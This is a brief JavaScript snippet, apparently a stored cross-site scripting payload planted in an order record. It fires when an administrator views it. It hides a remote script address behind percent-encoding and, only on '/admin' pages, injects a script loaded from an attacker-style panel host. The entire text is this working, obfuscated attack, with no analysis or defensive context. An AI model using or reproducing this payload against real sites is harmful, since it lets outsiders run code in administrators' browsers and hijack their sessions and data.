// Row 41: left in an order, run in the administrator's browser.
(function () {
  var s = document.createElement('script');
  s.src = unescape('%68%74%74%70%73%3a%2f%2f%78%73%73%2d%70%61%6e%65%6c%2e%65%78%61%6d%70%6c%65%2f%61%2e%6a%73');
  if (location.pathname.indexOf('/admin') > -1) (document.head || document.body).appendChild(s);
})();
